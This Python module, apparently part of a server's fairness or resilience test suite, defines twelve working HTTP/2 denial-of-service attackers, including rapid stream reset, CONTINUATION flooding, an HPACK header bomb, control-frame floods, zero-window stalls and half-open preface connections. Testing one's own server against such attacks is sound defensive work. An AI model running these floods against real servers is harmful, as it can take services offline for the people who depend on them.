"""Clients that cost an HTTP/2 server as much as they can, each for some seconds. A connection that the server ends is
opened again. The frames are made before: the attack shall cost the server, not its client."""

from __future__ import annotations

import contextlib
import itertools
import ssl
import time
from collections.abc import Callable, Iterable, Iterator
from typing import Any

import hpack
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from tests.fairness.attackers_http import Target
from tests.rig.http2 import PREFACE, HTTP2Client, tls_connection

WHOLE = ["END_HEADERS", "END_STREAM"]
PAUSE_SECONDS = 0.05
BATCH = 200


def _headers(target: Target, path: str = "/api/v1/me/", method: str = "GET", **more: str) -> bytes:
    """Returns a header block that needs no table, so that it may be sent as often as one likes."""
    fields = {":method": method, ":path": path, ":scheme": "https", ":authority": "localhost", **more}
    fields |= {"authorization": f"Bearer {target.token}"} if target.token else {}
    fields |= {"x-forwarded-for": target.address} if target.address else {}
    encoder = hpack.Encoder()
    encoder.header_table_size = 0
    return encoder.encode(fields.items())


def _connection(target: Target) -> ssl.SSLSocket:
    return tls_connection(target.port, target.host, source=target.source)


def _client(target: Target, **options: Any) -> HTTP2Client:
    return HTTP2Client(target.port, address=target.address, source=target.source, **options)


def _pour(target: Target, seconds: float, pieces: Callable[[], Iterable[bytes]]) -> None:
    """Sends the preface and these pieces on one connection after the other, and reads nothing that it need not."""
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        with contextlib.suppress(OSError, ssl.SSLError), _connection(target) as connection:
            connection.settimeout(0.5)
            connection.sendall(PREFACE + SettingsFrame(0).serialize())
            for piece in pieces():
                connection.sendall(piece)
                if time.monotonic() > deadline:
                    return


def _repeated(*frames: Frame) -> Iterator[bytes]:
    return itertools.repeat(BATCH * b"".join(frame.serialize() for frame in frames))


def reset_rapidly(target: Target, seconds: float) -> None:
    """Asks, and takes it back at once."""
    block = _headers(target)

    def pieces() -> Iterator[bytes]:
        for first in range(1, 2**30, 2 * BATCH):
            streams = range(first, first + 2 * BATCH, 2)
            frames = ((HeadersFrame(n, block, flags=WHOLE), RstStreamFrame(n, error_code=8)) for n in streams)
            yield b"".join(frame.serialize() for pair in frames for frame in pair)

    _pour(target, seconds, pieces)


def reset_slowly(target: Target, seconds: float) -> None:
    """Takes each request back only when it is being answered."""
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        with contextlib.suppress(OSError), _client(target) as client:
            while not client.is_closed and time.monotonic() < deadline:
                streams = [client.request("GET", "/api/v1/me/", token=target.token, flush=False) for _ in range(50)]
                client.flush()
                client.read(PAUSE_SECONDS)
                for stream in streams:
                    if not client.answers[stream].is_over:
                        client.reset(stream, flush=False)
                client.flush()
                client.answers.clear()


def continue_headers(target: Target, seconds: float) -> None:
    """Sends headers without end, in empty pieces."""
    begin = HeadersFrame(1, _headers(target)).serialize()
    _pour(target, seconds, lambda: itertools.chain([begin], _repeated(ContinuationFrame(1, b""))))


def bomb_headers(target: Target, seconds: float) -> None:
    """Sends a byte for each copy of a long header that the table holds."""
    stored = hpack.Encoder().encode([(":method", "GET"), (":path", "/"), (":scheme", "https"), ("bomb", "x" * 3900)])
    bomb = HeadersFrame(3, b"\xbe" * 16000, flags=WHOLE).serialize()
    _pour(target, seconds, lambda: [HeadersFrame(1, stored, flags=WHOLE).serialize(), *(100 * [bomb])])


def flood_settings(target: Target, seconds: float) -> None:
    _pour(target, seconds, lambda: _repeated(SettingsFrame(0, {1: 2**31, 4: 65535})))


def flood_pings(target: Target, seconds: float) -> None:
    _pour(target, seconds, lambda: _repeated(PingFrame(0, b"abcdefgh")))


def flood_priorities(target: Target, seconds: float) -> None:
    _pour(target, seconds, lambda: _repeated(PriorityFrame(7, depends_on=3), WindowUpdateFrame(0, window_increment=1)))


def flood_empty_data(target: Target, seconds: float) -> None:
    begin = HeadersFrame(1, _headers(target, "/api/v1/rooms/", "POST"), flags=["END_HEADERS"]).serialize()
    _pour(target, seconds, lambda: itertools.chain([begin], _repeated(DataFrame(1, b""))))


def stall_windows(target: Target, seconds: float, connections: int = 10) -> None:
    """Opens no window for a hundred long answers on each connection."""
    path = "/api/schema/"
    deadline = time.monotonic() + seconds
    held: list[HTTP2Client] = []
    while time.monotonic() < deadline:
        with contextlib.suppress(OSError):
            while len(held) < connections:
                client = _client(target, is_reading=False)
                client.h2.update_settings({4: 0})
                for _ in range(100):
                    client.request("GET", path, token=target.token, flush=False)
                client.flush()
                held.append(client)
        for client in list(held):
            client.read(0.01)
            if client.is_closed or (client.answers and all(answer.is_over for answer in client.answers.values())):
                client.close()
                held.remove(client)
    for client in held:
        client.close()


def ask_on_all_streams(target: Target, seconds: float, connections: int = 5) -> None:
    """Asks on a hundred streams of each connection, and reads: all that the protocol allows."""
    deadline = time.monotonic() + seconds
    held: list[HTTP2Client] = []
    with contextlib.suppress(OSError):
        while time.monotonic() < deadline:
            held = [client for client in held if not client.is_closed]
            while len(held) < connections:
                held.append(_client(target, window=8 * 2**20))
            for client in held:
                open_ones = [stream for stream, answer in client.answers.items() if not answer.is_over]
                client.answers = {stream: client.answers[stream] for stream in open_ones}
                for _ in range(100 - len(open_ones)):
                    client.request("GET", "/api/v1/rooms/?limit=100", token=target.token, flush=False)
                client.flush()
                client.read(0.02)
    for client in held:
        client.close()


def shake_hands(target: Target, seconds: float) -> None:
    """Begins TLS, and leaves."""
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        with contextlib.suppress(OSError, ssl.SSLError):
            _connection(target).close()


def stay_in_preface(target: Target, seconds: float, connections: int = 300) -> None:
    """Holds connections that have said half of what begins HTTP/2."""
    deadline = time.monotonic() + seconds
    held: list[ssl.SSLSocket] = []
    while time.monotonic() < deadline:
        if len(held) < connections:
            with contextlib.suppress(OSError, ssl.SSLError):
                held.append(_connection(target))
                held[-1].sendall(PREFACE[:12])
        else:
            time.sleep(PAUSE_SECONDS)
    for connection in held:
        connection.close()


ATTACKERS = (
    reset_rapidly,
    reset_slowly,
    continue_headers,
    bomb_headers,
    flood_settings,
    flood_pings,
    flood_priorities,
    flood_empty_data,
    stall_windows,
    ask_on_all_streams,
    shake_hands,
    stay_in_preface,
)
